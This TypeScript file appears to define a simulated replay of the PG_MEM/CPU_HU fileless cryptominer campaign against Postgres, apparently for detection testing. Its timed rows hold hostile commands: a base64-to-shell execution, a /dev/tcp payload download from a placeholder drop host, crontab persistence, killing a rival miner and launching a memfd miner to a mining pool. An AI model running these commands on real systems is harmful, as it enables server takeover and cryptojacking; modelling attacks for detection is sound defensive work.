import { type Campaign, run } from './campaign.ts'

export const PG_MEM: Campaign = {
  id: 'pg-mem',
  title: 'PG_MEM and CPU_HU: fileless miner in Postgres',
  source: 'Aqua, 2024; Wiz',
  victim: 'postgres',
  evasions: [],
  unseen: ['1: guessed passwords, when connections are not recorded', '2: superuser role (log of the database)'],
  rows: ({ drop, pool, wallet }) => [
    ['0:00', 3, run('server', "/bin/sh -c 'echo aWQ= | base64 -d | sh'", { as: 'sh' })],
    ['0:01', 3, run('sh', '/usr/bin/id')],
    [
      '0:20',
      3,
      run('server', `/bin/bash -c 'exec 3<>/dev/tcp/${drop}/8000; cat <&3 > /tmp/pg_core'`, {
        as: 'fetch',
        to: [[drop, 8000]]
      })
    ],
    ['0:24', 3, run('fetch', '/bin/chmod +x /tmp/pg_core')],
    ['0:30', 3, run('fetch', '/tmp/pg_core', { as: 'core' })],
    ['0:50', 4, run('core', '/usr/bin/pkill -f kdevtmpfsi')],
    ['1:00', 4, run('core', '/usr/bin/crontab -', { writes: ['/var/spool/cron/crontabs/postgres'] })],
    [
      '1:30',
      4,
      run('core', `memfd:cpu_hu -o ${pool.host}:${pool.port} -u ${wallet} -k`, {
        as: 'miner',
        to: [[pool.ip, pool.port]]
      })
    ]
  ]
}
